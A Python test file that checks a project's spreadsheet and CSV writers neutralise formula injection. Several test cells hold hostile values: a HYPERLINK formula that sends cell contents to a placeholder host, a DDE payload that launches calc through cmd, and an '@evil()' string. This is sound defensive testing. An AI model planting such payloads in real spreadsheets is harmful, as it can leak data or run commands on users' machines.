"""Text a spreadsheet would evaluate is written as text in every xlsx and CSV the project
writes; numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import hypothesis.strategies as st
import openpyxl
import pandas as pd
from hypothesis import given

from sousei.io.flows.moves_by_age import write_moves_csv
from sousei.io.population.long_format import write_long_csv, write_long_xlsx
from sousei.io.safe_text import FORMULA_STARTS, csv_safe, looks_like_formula
from sousei.io.strategy.entry_template import write_entry_template
from sousei.io.strategy.progress import read_progress_workbook, write_progress_workbook
from sousei.reports.table import Cell, ReportTable
from sousei.reports.xlsx import write_workbook
from sousei.strategy import evaluate_strategy, get_scheme

LINK = '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")'


def _as_typed_text(cell, text: str) -> None:
    """What Excel stores when a person types '=... (a text cell that begins with =)."""
    cell.value = text
    cell.data_type = "s"


def _hostile_progress(progress_workbook: Path) -> Path:
    book = openpyxl.load_workbook(progress_workbook)
    ws = book.active
    kpi_col = next(c.column for c in ws[3] if c.value and "KPI" in str(c.value))
    row = next(r for r in range(4, ws.max_row + 1)
               if ws.cell(row=r, column=kpi_col).value == "起業支援による創業者数")
    _as_typed_text(ws.cell(row=row, column=kpi_col), LINK)
    _as_typed_text(ws.cell(row=row, column=kpi_col - 1), "@SUM(1+1)*cmd|' /C calc'!A0")
    book.save(progress_workbook)
    return progress_workbook


def _all_cells(path: Path):
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_progress_workbook_and_template_write_formula_text_as_text(
    progress_workbook: Path, tmp_path: Path
) -> None:
    strategy = read_progress_workbook(_hostile_progress(progress_workbook)).strategy
    assert LINK in [k.name for k in strategy.kpis]
    evaluation = evaluate_strategy(strategy, get_scheme("standard"))
    written = [write_progress_workbook(strategy, tmp_path / "progress.xlsx", evaluation)]
    kpi = next(k for k in strategy.kpis if k.name == LINK)
    written.append(write_entry_template(strategy, kpi.department, tmp_path / "template.xlsx"))
    for path in written:
        cells = list(_all_cells(path))
        assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
        link = [c for c in cells if c.value == LINK]
        assert link and all(c.data_type == "s" and c.quotePrefix for c in link), path.name
    # The negative actual (社会増減数 R7) stays a number; the name reads back as typed.
    assert [c.data_type for c in _all_cells(written[0]) if c.value == -380] == ["n"]
    assert LINK in [k.name for k in read_progress_workbook(written[0]).strategy.kpis]


def test_report_workbook_writes_formula_text_as_text(tmp_path: Path) -> None:
    table = ReportTable(
        key="意見", title="委員の意見", header=((Cell("a"), Cell("b"), Cell("c")),),
        body=((Cell("+1+1"), Cell(LINK), Cell(-5, "count")),
              (Cell("-5"), Cell("\tnote"), Cell(3.5, "count1"))),
    )
    path = write_workbook([table], tmp_path / "report.xlsx")
    cells = {c.value: c for c in _all_cells(path) if c.value is not None}
    for text in ("+1+1", LINK, "\tnote"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert cells[-5].data_type == "n"
    assert not cells["-5"].quotePrefix  # a number written as text is not a formula


def test_csv_writers_prefix_formula_text_and_keep_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "area_code": ["=1+2", "40203"], "nationality": ["total", "total"], "sex": ["M", "F"],
        "age_start": [0, 5], "age_span": [5, 5], "year": [2020, 2020], "value": [-3.0, 10.0],
    })
    write_long_csv(frame, tmp_path / "long.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "long.csv").read_text("utf-8-sig"))))
    by_code = {r["area_code"]: r for r in rows}
    assert set(by_code) == {"'=1+2", "40203"}
    assert by_code["'=1+2"]["value"] in ("-3", "-3.0")
    moves = pd.DataFrame({"year": [2020], "area_code": ["@evil()"], "sex": ["M"],
                          "age_start": [0], "in_moves": [-4], "out_moves": [2]})
    text = write_moves_csv(moves).decode("utf-8-sig")
    assert "'@evil()" in text and ",-4," in text


def test_write_only_long_xlsx_writes_formula_text_as_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "area_code": ["=1+2", "40203"], "nationality": ["total", "total"], "sex": ["M", "F"],
        "age_start": [0, 0], "age_span": [5, 5], "year": [2020, 2020], "value": [-1.0, 2.0],
    })
    path = tmp_path / "long.xlsx"
    write_long_xlsx(frame, path)
    cells = list(_all_cells(path))
    assert not [c for c in cells if c.data_type == "f"]
    (hostile,) = [c for c in cells if c.value == "=1+2"]
    assert hostile.data_type == "s" and hostile.quotePrefix
    assert [c.data_type for c in cells if c.value == -1] == ["n"]


@given(st.text(max_size=20))
def test_formula_rule_matches_its_definition(text: str) -> None:
    """Every text starting with a formula character is neutralised, unless it is a number."""
    try:
        float(text.replace(",", "").rstrip("%"))
        number = text[:1] not in ("\t", "\r") and text.strip() == text and text != ""
    except ValueError:
        number = False
    if not text.startswith(FORMULA_STARTS):
        assert not looks_like_formula(text)
    elif not number:
        assert looks_like_formula(text)
    safe = csv_safe(pd.DataFrame({"t": [text], "n": [-1.5]}))
    assert safe["n"].iloc[0] == -1.5
    assert safe["t"].iloc[0] == ("'" + text if looks_like_formula(text) else text)
